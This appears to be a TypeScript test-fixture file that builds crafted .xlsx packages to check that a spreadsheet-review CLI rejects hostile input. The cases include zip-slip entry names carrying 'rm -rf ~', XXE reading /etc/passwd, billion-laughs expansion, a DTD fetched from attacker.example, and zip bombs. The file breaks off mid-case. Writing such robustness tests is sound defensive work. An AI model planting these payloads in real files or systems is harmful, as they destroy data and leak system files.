/**
 * Crafted packages: hostile, broken or merely unusual .xlsx files, each with what the
 * command line must do with it (exit code, sentence) and what a user would check after.
 * Generated here, never stored: test/cli/crafted-packages.test.ts runs them all, the bench
 * measures the memory each takes, and `node -r @swc-node/register scripts/crafted-packages.ts
 * DIR` writes them out to try by hand. Shaped like what Excel 2016+ writes (namespaces,
 * mc:AlternateContent, revision ids), unless the case is about another dialect.
 */
import { buildZip, repeatedDeflate, type BuildEntry, type BuildOptions } from './zip-build';

export interface CraftedCase {
  id: string;
  what: string;
  build: () => Uint8Array;
  /** Exit code of `binh-xet review`. */
  code: 0 | 1 | 2;
  /** What stderr (exit 2) or stdout (exit 0) must say. */
  err?: RegExp;
  out?: RegExp;
  /** More a user would check on the output (exit 0). */
  check?: 'parts-kept' | 'zip64' | 'reread';
  /** Parts that must be in the output byte for byte, compressed as they were. */
  kept?: string[];
  /** Takes seconds or hundreds of MB of disk-free work: run in the bench and the test, not in loops. */
  heavy?: boolean;
}

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG = 'http://schemas.openxmlformats.org/package/2006/relationships';
const DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n';
const CT = {
  workbook: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
  sheet: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
  styles: 'application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml',
  sst: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml',
  core: 'application/vnd.openxmlformats-package.core-properties+xml',
  app: 'application/vnd.openxmlformats-officedocument.extended-properties+xml',
};

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const col = (c: number) => {
  let s = '';
  for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
};

const FAMILY = ['Nguyễn', 'Trần', 'Lê', 'Phạm', 'Hoàng', 'Vũ'];
const MIDDLE = ['Văn', 'Thị', 'Minh', 'Đức'];
const GIVEN = ['An', 'Bình', 'Cường', 'Dũng', 'Hà', 'Lan'];
const RATINGS = ['HTXSNV', 'HTTNV', 'HTTNV', 'HTNV'];

/** Shared strings as Excel keeps them: one entry per distinct text. */
class Sst {
  readonly list: string[] = [];
  private readonly index = new Map<string, number>();
  id(s: string): number {
    let i = this.index.get(s);
    if (i === undefined) {
      i = this.list.length;
      this.list.push(s);
      this.index.set(s, i);
    }
    return i;
  }
  xml(raw?: string[]): string {
    const items = raw ?? this.list.map((s) => `<si><t${/^\s|\s$/.test(s) ? ' xml:space="preserve"' : ''}>${esc(s)}</t></si>`);
    return `${DECL}<sst xmlns="${MAIN}" count="${items.length}" uniqueCount="${items.length}">${items.join('')}</sst>`;
  }
}

interface StaffOptions {
  people?: number;
  /** Cells added to the sheet: [reference, value XML of a <c> without its r]. */
  extra?: [string, string][];
  sheetAttrs?: string;
  /** Raw XML put after sheetData (merges, validation…). */
  after?: string;
}

/** The staff list: STT, Họ và tên, Đơn vị, Xếp loại; `people` rows. */
function staffSheet(sst: Sst, o: StaffOptions = {}): string {
  const n = o.people ?? 12;
  const rows: string[] = [];
  const header = ['STT', 'Họ và tên', 'Đơn vị', 'Xếp loại'];
  rows.push(`<row r="1" spans="1:4">${header.map((h, c) => `<c r="${col(c)}1" s="1" t="s"><v>${sst.id(h)}</v></c>`).join('')}</row>`);
  for (let i = 0; i < n; i++) {
    const r = i + 2;
    const name = `${FAMILY[i % 6]} ${MIDDLE[(i >> 1) % 4]} ${GIVEN[(i * 5) % 6]}${i >= 12 ? ` ${i}` : ''}`;
    rows.push(
      `<row r="${r}" spans="1:4"><c r="A${r}"><v>${i + 1}</v></c><c r="B${r}" t="s"><v>${sst.id(name)}</v></c>` +
        `<c r="C${r}" t="s"><v>${sst.id(i % 2 ? 'Phòng Tổng hợp' : 'Văn phòng')}</v></c><c r="D${r}" t="s"><v>${sst.id(RATINGS[i % 4])}</v></c></row>`,
    );
  }
  // Extra cells go into their rows (rows stay in order: Excel requires it).
  const byRow = new Map<number, string[]>();
  for (const [ref, cell] of o.extra ?? []) {
    const r = Number(/\d+$/.exec(ref)![0]);
    (byRow.get(r) ?? byRow.set(r, []).get(r)!).push(`<c r="${ref}"${cell}`);
  }
  const out: string[] = [];
  const existing = new Map(rows.map((x, i) => [i + 1, x]));
  const all = [...new Set([...existing.keys(), ...byRow.keys()])].sort((a, b) => a - b);
  for (const r of all) {
    const base = existing.get(r);
    const more = (byRow.get(r) ?? []).join('');
    out.push(base ? base.replace('</row>', `${more}</row>`) : `<row r="${r}">${more}</row>`);
  }
  return (
    `${DECL}<worksheet xmlns="${MAIN}" xmlns:r="${REL}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x14ac xr xr2 xr3" ` +
    `xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" ` +
    `xmlns:xr2="http://schemas.microsoft.com/office/spreadsheetml/2015/revision2" xmlns:xr3="http://schemas.microsoft.com/office/spreadsheetml/2016/revision3" xr:uid="{00000000-0001-0000-0000-000000000000}"${o.sheetAttrs ?? ''}>` +
    `<dimension ref="A1:D${n + 1}"/><sheetViews><sheetView tabSelected="1" workbookViewId="0"><selection activeCell="B2" sqref="B2"/></sheetView></sheetViews>` +
    `<sheetFormatPr defaultRowHeight="15.75" x14ac:dyDescent="0.25"/><cols><col min="2" max="2" width="28" customWidth="1"/></cols>` +
    `<sheetData>${out.join('')}</sheetData>${o.after ?? ''}<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/></worksheet>`
  );
}

const STYLES =
  `${DECL}<styleSheet xmlns="${MAIN}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x14ac x16r2 xr" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" xmlns:x16r2="http://schemas.microsoft.com/office/spreadsheetml/2015/02/main" xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision">` +
  '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd/mm/yyyy;@"/></numFmts>' +
  '<fonts count="2" x14ac:knownFonts="1"><font><sz val="12"/><color theme="1"/><name val="Times New Roman"/><family val="2"/></font><font><b/><sz val="12"/><color theme="1"/><name val="Times New Roman"/><family val="1"/></font></fonts>' +
  '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>' +
  '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>' +
  '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>' +
  '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/><xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>' +
  '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles><dxfs count="0"/><tableStyles count="0" defaultTableStyle="TableStyleMedium2" defaultPivotStyle="PivotStyleLight16"/>' +
  '<extLst><ext uri="{EB79DEF2-80B8-43e5-95BD-54CBDDF9020C}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:slicerStyles defaultSlicerStyle="SlicerStyleLight1"/></ext></extLst></styleSheet>';

export interface BookOptions {
  staff?: StaffOptions;
  /** The workbook part as a function of the default one. */
  workbook?: (xml: string) => string;
  rels?: (xml: string) => string;
  types?: (xml: string) => string;
  sst?: (xml: string, sst: Sst) => string;
  sheet?: (xml: string) => string;
  /** More sheets after the staff list: [name, xml, state]. */
  sheets?: [string, string, string?][];
  /** More parts, in this order after the others. */
  parts?: BuildEntry[];
  /** Changes to the entries before the zip is built (names, methods, flags…). */
  entries?: (e: BuildEntry[]) => BuildEntry[];
  zip?: BuildOptions;
}

/** The parts of a small workbook, as Excel writes them. */
export function bookEntries(o: BookOptions = {}): BuildEntry[] {
  const sst = new Sst();
  let sheet = staffSheet(sst, o.staff);
  if (o.sheet) sheet = o.sheet(sheet);
  const more = o.sheets ?? [];
  const sheetEls = [
    `<sheet name="Cán bộ" sheetId="1" r:id="rId1"/>`,
    ...more.map(([name, , state], i) => `<sheet name="${esc(name)}" sheetId="${i + 2}"${state ? ` state="${state}"` : ''} r:id="rId${i + 4}"/>`),
  ];
  let workbook =
    `${DECL}<workbook xmlns="${MAIN}" xmlns:r="${REL}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x15 xr xr6 xr10 xr2" ` +
    'xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main" xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" ' +
    'xmlns:xr6="http://schemas.microsoft.com/office/spreadsheetml/2016/revision6" xmlns:xr10="http://schemas.microsoft.com/office/spreadsheetml/2016/revision10" xmlns:xr2="http://schemas.microsoft.com/office/spreadsheetml/2015/revision2">' +
    '<fileVersion appName="xl" lastEdited="7" lowestEdited="7" rupBuild="27425"/><workbookPr defaultThemeVersion="166925"/>' +
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x15"><x15ac:absPath url="C:\\Users\\vanthu\\Documents\\" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent>' +
    '<xr:revisionPtr revIDLastSave="0" documentId="8_{7A1B2C3D-0000-4000-8000-000000000001}" xr6:coauthVersionLast="47" xr6:coauthVersionMax="47" xr10:uidLastSave="{00000000-0000-0000-0000-000000000000}"/>' +
    '<bookViews><workbookView xWindow="-120" yWindow="-120" windowWidth="29040" windowHeight="15840" xr2:uid="{00000000-000D-0000-FFFF-FFFF00000000}"/></bookViews>' +
    `<sheets>${sheetEls.join('')}</sheets><definedNames><definedName name="_xlnm.Print_Titles" localSheetId="0">'Cán bộ'!$1:$1</definedName></definedNames><calcPr calcId="191029"/>` +
    '<extLst><ext uri="{140A7094-0E35-4892-8432-C4D2E57EDEB5}" xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main"><x15:workbookPr chartTrackingRefBase="1"/></ext></extLst></workbook>';
  if (o.workbook) workbook = o.workbook(workbook);
  let rels =
    `${DECL}<Relationships xmlns="${PKG}"><Relationship Id="rId3" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId2" Type="${REL}/styles" Target="styles.xml"/>` +
    `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>${more.map((_, i) => `<Relationship Id="rId${i + 4}" Type="${REL}/worksheet" Target="worksheets/sheet${i + 2}.xml"/>`).join('')}</Relationships>`;
  if (o.rels) rels = o.rels(rels);
  let types =
    `${DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
    `<Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/octet-stream"/>` +
    `<Override PartName="/xl/workbook.xml" ContentType="${CT.workbook}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${CT.sheet}"/>` +
    more.map((_, i) => `<Override PartName="/xl/worksheets/sheet${i + 2}.xml" ContentType="${CT.sheet}"/>`).join('') +
    `<Override PartName="/xl/styles.xml" ContentType="${CT.styles}"/><Override PartName="/xl/sharedStrings.xml" ContentType="${CT.sst}"/>` +
    `<Override PartName="/docProps/core.xml" ContentType="${CT.core}"/><Override PartName="/docProps/app.xml" ContentType="${CT.app}"/></Types>`;
  if (o.types) types = o.types(types);
  let sstXml = sst.xml();
  if (o.sst) sstXml = o.sst(sstXml, sst);
  return [
    { name: '[Content_Types].xml', data: types },
    {
      name: '_rels/.rels',
      data: `${DECL}<Relationships xmlns="${PKG}"><Relationship Id="rId3" Type="${REL}/extended-properties" Target="docProps/app.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    { name: 'xl/workbook.xml', data: workbook },
    { name: 'xl/_rels/workbook.xml.rels', data: rels },
    { name: 'xl/worksheets/sheet1.xml', data: sheet },
    ...more.map(([, xml], i) => ({ name: `xl/worksheets/sheet${i + 2}.xml`, data: xml })),
    { name: 'xl/styles.xml', data: STYLES },
    { name: 'xl/sharedStrings.xml', data: sstXml },
    {
      name: 'docProps/core.xml',
      data: `${DECL}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:dcmitype="http://purl.org/dc/dcmitype/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>Văn thư</dc:creator><cp:lastModifiedBy>Văn thư</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">2014-11-03T01:02:03Z</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">2014-12-01T08:09:10Z</dcterms:modified></cp:coreProperties>`,
    },
    {
      name: 'docProps/app.xml',
      data: `${DECL}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>Microsoft Excel</Application><AppVersion>16.0300</AppVersion></Properties>`,
    },
    ...(o.parts ?? []),
  ];
}

export function book(o: BookOptions = {}): Uint8Array {
  let e = bookEntries(o);
  if (o.entries) e = o.entries(e);
  return buildZip(e, o.zip);
}

const MB = 1024 * 1024;
const enc = new TextEncoder();
/** `size` bytes of zeros, deflated without ever being held (about 1 KB per MB). */
const zeros = (size: number) => repeatedDeflate(new Uint8Array(MB), Math.ceil(size / MB));
const entry = (name: string, d: { data: Uint8Array; size: number; crc: number }, more: Partial<BuildEntry> = {}): BuildEntry => ({ name, data: d.data, raw: { size: d.size, crc: d.crc }, ...more });
const replaceEntry = (name: string, f: (e: BuildEntry) => BuildEntry) => (es: BuildEntry[]) => es.map((e) => (e.name === name ? f(e) : e));

const tinyEntries = (n: number, dir = 'customXml/item'): BuildEntry[] => Array.from({ length: n }, (_, i) => ({ name: `${dir}${i + 1}.xml`, data: `<a n="${i}"/>`, method: 0 }));

/** A sheet part whose XML repeats `unit` (inside sheetData) until it is `size` bytes. */
function bigSheet(unit: string, size: number) {
  const head = enc.encode(`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>`);
  const tail = enc.encode('</sheetData></worksheet>');
  const u = enc.encode(unit.repeat(Math.max(1, Math.floor(MB / unit.length))));
  return repeatedDeflate(u, Math.ceil(size / u.length), head, tail);
}

/**
 * A part parsed into a tree, padded before `close` with `unit` repeated to about `size`
 * bytes, deflated without ever being held.
 */
function treePart(xml: string, close: string, unit: string, size: number) {
  const at = xml.lastIndexOf(close);
  const u = enc.encode(unit.repeat(Math.max(1, Math.floor((64 * 1024) / unit.length))));
  return repeatedDeflate(u, Math.ceil(size / u.length), enc.encode(xml.slice(0, at)), enc.encode(xml.slice(at)));
}

/** Entries of the plain book. */
const BASE = bookEntries().length;

export const CASES: CraftedCase[] = [
  // ---- not a zip, or a broken one
  { id: 'not-a-zip', what: 'a text file named .xlsx', build: () => enc.encode('Họ và tên;Đơn vị\n'), code: 2, err: /không phải sổ Excel \.xlsx/ },
  { id: 'empty-file', what: 'an empty file', build: () => new Uint8Array(0), code: 2, err: /không phải sổ Excel \.xlsx/ },
  { id: 'truncated', what: 'a package cut at 60 %', build: () => book().slice(0, Math.floor(book().length * 0.6)), code: 2, err: /bị hỏng \(tệp bị cắt cụt/ },
  {
    id: 'prefixed-bytes',
    what: 'a package behind 1 KB of other bytes (a self-extractor)',
    build: () => book({ zip: { prefix: new Uint8Array(1024).fill(0x4d) } }),
    code: 2,
    err: /không phải sổ Excel/,
  },
  { id: 'suffixed-bytes', what: 'a package followed by 1 KB of other bytes', build: () => book({ zip: { suffix: new Uint8Array(1024).fill(7) } }), code: 0, check: 'reread' },
  { id: 'directory-lies', what: 'an end record that counts one entry too many', build: () => book({ zip: { count: 11 } }), code: 2, err: /mục lục của tệp nén sai/ },
  {
    id: 'crc-mismatch',
    what: 'the shared strings stored with a wrong CRC',
    build: () => book({ entries: replaceEntry('xl/sharedStrings.xml', (e) => ({ ...e, method: 0, crc: 0x1234 })) }),
    code: 2,
    err: /phần xl\/sharedStrings\.xml sai mã kiểm tra CRC/,
  },
  {
    id: 'size-lie',
    what: 'a sheet that inflates to more than its declared size',
    build: () => book({ entries: replaceEntry('xl/worksheets/sheet1.xml', (e) => ({ ...e, declaredSize: 100 })) }),
    code: 2,
    err: /phần xl\/worksheets\/sheet1\.xml giải nén ra kích thước khác/,
  },
  {
    id: 'deflate-garbage',
    what: 'a sheet whose compressed bytes are noise',
    build: () => book({ entries: replaceEntry('xl/worksheets/sheet1.xml', (e) => ({ ...e, data: new Uint8Array(500).fill(0xff), raw: { size: 4000, crc: 1 } })) }),
    code: 2,
    err: /có dữ liệu nén hỏng/,
  },
  {
    id: 'method-bzip2',
    what: 'the workbook part compressed with bzip2 (method 12)',
    build: () => book({ entries: replaceEntry('xl/workbook.xml', (e) => ({ ...e, method: 12 })) }),
    code: 2,
    err: /phần xl\/workbook\.xml được nén theo kiểu số 12/,
  },
  {
    id: 'method-unread-part',
    what: 'a part nobody reads (an image) compressed with method 12: copied as it is',
    build: () => book({ parts: [{ name: 'xl/media/image1.bin', data: 'not really bzip2', method: 12 }] }),
    code: 0,
    check: 'parts-kept',
    kept: ['xl/media/image1.bin'],
  },
  {
    id: 'encrypted-entry',
    what: 'an entry with the zip encryption flag',
    build: () => book({ entries: replaceEntry('docProps/app.xml', (e) => ({ ...e, flags: 0x801 })) }),
    code: 2,
    err: /phần docProps\/app\.xml được mã hoá/,
  },
  { id: 'duplicate-entry', what: 'two entries named xl/workbook.xml', build: () => book({ entries: (es) => [...es, { ...es[2] }] }), code: 2, err: /hai mục cùng tên xl\/workbook\.xml/ },
  {
    id: 'duplicate-entry-case',
    what: 'xl/workbook.xml and XL/Workbook.xml',
    build: () => book({ entries: (es) => [...es, { ...es[2], name: 'XL/Workbook.xml' }] }),
    code: 2,
    err: /hai mục cùng tên XL\/Workbook\.xml/,
  },
  { id: 'zip-slip', what: 'an entry named ../../evil.sh', build: () => book({ parts: [{ name: '../../evil.sh', data: 'rm -rf ~' }] }), code: 2, err: /tên không hợp lệ "\.\.\/\.\.\/evil\.sh"/ },
  { id: 'absolute-name', what: 'an entry named /etc/cron.d/x', build: () => book({ parts: [{ name: '/etc/cron.d/x', data: 'x' }] }), code: 2, err: /tên không hợp lệ "\/etc\/cron\.d\/x"/ },
  { id: 'backslash-name', what: 'an entry named xl\\..\\..\\evil.dll', build: () => book({ parts: [{ name: 'xl\\..\\..\\evil.dll', data: 'x' }] }), code: 2, err: /tên không hợp lệ/ },
  { id: 'nul-name', what: 'an entry name with a NUL character', build: () => book({ parts: [{ name: 'xl/media/a\u0000.png', data: 'x' }] }), code: 2, err: /tên không hợp lệ/ },
  { id: 'drive-name', what: 'an entry named C:/Windows/x.dll', build: () => book({ parts: [{ name: 'C:/Windows/x.dll', data: 'x' }] }), code: 2, err: /tên không hợp lệ/ },
  {
    id: 'local-name-differs',
    what: 'a local header naming another part than the directory',
    build: () => book({ entries: replaceEntry('xl/styles.xml', (e) => ({ ...e, localName: 'xl/styles.xmm' })) }),
    code: 2,
    err: /ở phần xl\/styles\.xml/,
  },
  {
    id: 'shared-local-header',
    what: 'two directory entries pointing at one local header',
    build: () =>
      book({
        parts: [
          { name: 'xl/media/a.png', data: 'PNG' },
          { name: 'xl/media/b.png', data: 'PNG', pointTo: BASE },
        ],
      }),
    code: 2,
    err: /bị hỏng \(đầu mục không khớp với mục lục, ở phần xl\/media\/b\.png\)/,
  },
  {
    id: 'overlapping-entries',
    what: 'an entry whose data runs over the next entry (a "better zip bomb")',
    build: () =>
      book({
        parts: [
          { name: 'xl/media/a.png', data: 'PNG', method: 0, declaredCompressed: 200 },
          { name: 'xl/media/b.png', data: 'PNG'.repeat(500), method: 0 },
        ],
      }),
    code: 2,
    err: /hai mục của tệp nén dùng chung một vùng dữ liệu/,
  },
  {
    id: 'zip64-input',
    what: 'a package written with ZIP64 records',
    build: () => book({ entries: (es) => es.map((e) => ({ ...e, zip64: true })), zip: { zip64End: true } }),
    code: 0,
    check: 'reread',
  },
  {
    id: 'data-descriptors',
    what: 'sizes after the data (bit 3), as streaming zippers write',
    build: () => book({ entries: (es) => es.map((e) => ({ ...e, descriptor: true })) }),
    code: 0,
    check: 'reread',
  },
  { id: 'stored-entries', what: 'every part stored, none deflated', build: () => book({ entries: (es) => es.map((e) => ({ ...e, method: 0 })) }), code: 0, check: 'reread' },
  // ---- sizes and counts
  {
    id: 'many-small-entries',
    what: '20 000 small custom XML parts (2.5 MB)',
    build: () => book({ parts: tinyEntries(20000) }),
    code: 0,
    check: 'parts-kept',
    kept: ['customXml/item1.xml', 'customXml/item20000.xml'],
    heavy: true,
  },
  { id: 'zip64-many-entries', what: '70 000 parts: the copy needs ZIP64', build: () => book({ parts: tinyEntries(70000) }), code: 0, check: 'zip64', kept: ['customXml/item70000.xml'], heavy: true },
  { id: 'too-many-entries', what: '100 001 entries', build: () => book({ parts: tinyEntries(100001 - BASE) }), code: 2, err: /có 100001 mục, vượt giới hạn 100000 mục/, heavy: true },
  {
    id: 'media-1gb',
    what: 'a 1 MB package holding a 1 GB media part: copied, never inflated',
    build: () => book({ parts: [entry('xl/media/image1.png', zeros(1024 * MB))] }),
    code: 0,
    check: 'parts-kept',
    kept: ['xl/media/image1.png'],
    heavy: true,
  },
  {
    id: 'sheet-1gb-declared',
    what: 'a sheet that says it inflates to 1 GB',
    build: () => book({ entries: replaceEntry('xl/worksheets/sheet1.xml', () => entry('xl/worksheets/sheet1.xml', bigSheet('<row/>', 1024 * MB))) }),
    code: 2,
    err: /phần xl\/worksheets\/sheet1\.xml khi giải nén lớn hơn 256 MB/,
  },
  {
    id: 'sheet-bomb-lying',
    what: 'a 1 GB sheet that says it is 4 KB',
    build: () =>
      book({
        entries: replaceEntry('xl/worksheets/sheet1.xml', () => {
          const d = bigSheet('<row/>', 1024 * MB);
          return { name: 'xl/worksheets/sheet1.xml', data: d.data, raw: { size: 4096, crc: d.crc } };
        }),
      }),
    code: 2,
    err: /phần xl\/worksheets\/sheet1\.xml giải nén ra kích thước khác/,
  },
  {
    id: 'strings-1gb',
    what: 'shared strings that inflate to 1 GB',
    build: () => book({ entries: replaceEntry('xl/sharedStrings.xml', () => entry('xl/sharedStrings.xml', zeros(1024 * MB))) }),
    code: 2,
    err: /phần xl\/sharedStrings\.xml khi giải nén lớn hơn 256 MB/,
  },
  {
    id: 'stray-cells',
    what: '30 000 people, a note in XFD5 and a value in A1048576',
    build: () =>
      book({
        staff: {
          people: 30000,
          extra: [
            ['XFD5', ' t="inlineStr"><is><t>ghi chú lạc</t></is></c>'],
            ['A1048576', '><v>1</v></c>'],
          ],
        },
      }),
    code: 0,
    out: /Đã đọc: 30000 người/,
    heavy: true,
  },
  {
    id: 'grid-bomb',
    what: '2 000 rows each with a cell in XFD (33 million cells in its used range)',
    build: () => book({ staff: { extra: Array.from({ length: 2000 }, (_, i): [string, string] => [`XFD${i + 20}`, '><v>1</v></c>']) } }),
    code: 2,
    err: /trang "Cán bộ" làm vùng dữ liệu của sổ vượt 17 triệu ô/,
  },
  { id: 'cell-outside-grid', what: 'a cell in column XFE', build: () => book({ staff: { extra: [['XFE3', '><v>1</v></c>']] } }), code: 2, err: /trang "Cán bộ": có ô nằm ngoài bảng tính/ },
  { id: 'row-outside-grid', what: 'a cell on row 1 048 577', build: () => book({ staff: { extra: [['A1048577', '><v>1</v></c>']] } }), code: 2, err: /trang "Cán bộ": có ô nằm ngoài bảng tính/ },
  {
    id: 'missing-shared-string',
    what: 'a cell pointing at shared string 999999',
    build: () => book({ staff: { extra: [['E3', ' t="s"><v>999999</v></c>']] } }),
    code: 2,
    err: /trang "Cán bộ", ô E3: ô trỏ tới một chuỗi dùng chung không có/,
  },
  {
    id: 'merge-bomb',
    what: '100 000 merges over the whole sheet',
    build: () => book({ staff: { after: `<mergeCells count="100000">${'<mergeCell ref="A1:XFD1048576"/>'.repeat(100000)}</mergeCells>` } }),
    code: 1,
    err: /Không tìm thấy danh sách cán bộ/,
  },
  // ---- not a workbook
  { id: 'zip-without-workbook', what: 'a zip of a text file', build: () => buildZip([{ name: 'doc.txt', data: 'xin chào' }]), code: 2, err: /là tệp nén zip nhưng không chứa sổ Excel/ },
  {
    id: 'word-document',
    what: 'a Word document (.docx) renamed .xlsx',
    build: () =>
      buildZip([
        { name: '[Content_Types].xml', data: `${DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>` },
        { name: '_rels/.rels', data: `${DECL}<Relationships xmlns="${PKG}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>` },
        { name: 'word/document.xml', data: `${DECL}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>` },
      ]),
    code: 2,
    err: /không chứa sổ Excel/,
  },
  {
    id: 'workbook-missing',
    what: 'package relationships pointing at a workbook that is not there',
    build: () => book({ entries: (es) => es.filter((e) => e.name !== 'xl/workbook.xml') }),
    code: 2,
    err: /không chứa sổ Excel/,
  },
  { id: 'no-package-rels', what: 'no _rels/.rels (the workbook at its usual place)', build: () => book({ entries: (es) => es.filter((e) => e.name !== '_rels/.rels') }), code: 0, check: 'reread' },
  {
    id: 'sheet-part-missing',
    what: 'a sheet whose part is missing',
    build: () => book({ entries: (es) => es.filter((e) => e.name !== 'xl/worksheets/sheet1.xml') }),
    code: 2,
    err: /sổ có trang "Cán bộ" nhưng thiếu phần dữ liệu/,
  },
  {
    id: 'sheet-external',
    what: 'a sheet whose relationship points outside the package',
    build: () => book({ rels: (x) => x.replace('Target="worksheets/sheet1.xml"', 'Target="file:///etc/passwd" TargetMode="External"') }),
    code: 2,
    err: /thiếu phần dữ liệu/,
  },
  {
    id: 'duplicate-sheet-names',
    what: 'two sheets named "Cán bộ" and "CÁN BỘ"',
    build: () => book({ sheets: [['CÁN BỘ', `${DECL}<worksheet xmlns="${MAIN}"><sheetData/></worksheet>`]] }),
    code: 2,
    err: /có hai trang cùng tên "CÁN BỘ"/,
  },
  // ---- XML
  {
    id: 'xxe-workbook',
    what: 'an external entity (XXE) in the workbook part',
    build: () =>
      book({ workbook: (x) => x.replace(DECL, `${DECL}<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>`).replace('<calcPr', '<definedName name="x">&x;</definedName><calcPr') }),
    code: 2,
    err: /phần xl\/workbook\.xml có khai báo DOCTYPE/,
  },
  {
    id: 'billion-laughs',
    what: 'entity expansion ("billion laughs") in the shared strings',
    build: () =>
      book({
        sst: (x) =>
          x
            .replace(
              DECL,
              `${DECL}<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">]>`,
            )
            .replace('<si><t>STT</t></si>', '<si><t>&i;</t></si>'),
      }),
    code: 2,
    err: /phần xl\/sharedStrings\.xml có khai báo DOCTYPE/,
  },
  {
    id: 'doctype-sheet',
    what: 'a DOCTYPE in a sheet',
    build: () => book({ sheet: (x) => x.replace(DECL, `${DECL}<!DOCTYPE worksheet SYSTEM "http://attacker.example/x.dtd">`) }),
    code: 2,
    err: /phần xl\/worksheets\/sheet1\.xml có khai báo DOCTYPE/,
  },
  {
    id: 'malformed-sheet',
    what: 'a sheet with a tag left open',
    build: () => book({ sheet: (x) => x.replace('</sheetData>', '<row r="99"><c r="A99"><v>1</v></row></sheetData>') }),
    code: 2,
    err: /phần xl\/worksheets\/sheet1\.xml không phải XML hợp lệ \(dòng 2, cột \d+\)/,
  },
  {
    id: 'undefined-entity',
    what: 'an undefined entity in a cell',
    build: () => book({ staff: { extra: [['E2', ' t="inlineStr"><is><t>a &nbsp; b</t></is></c>']] } }),
    code: 2,
    err: /không phải XML hợp lệ/,
  },
  {
    id: 'bad-utf8',
    what: 'shared strings that are not UTF-8 (Windows-1258 bytes)',
    build: () =>
      book({
        entries: replaceEntry('xl/sharedStrings.xml', (e) => ({
          ...e,
          data: new Uint8Array([...enc.encode(`${DECL}<sst xmlns="${MAIN}"><si><t>`), 0xd0, 0xf4, 0x6e, ...enc.encode('</t></si></sst>')]),
        })),
      }),
    code: 2,
    err: /phần xl\/sharedStrings\.xml không được mã hoá UTF-8/,
  },
  {
    id: 'declared-latin1',
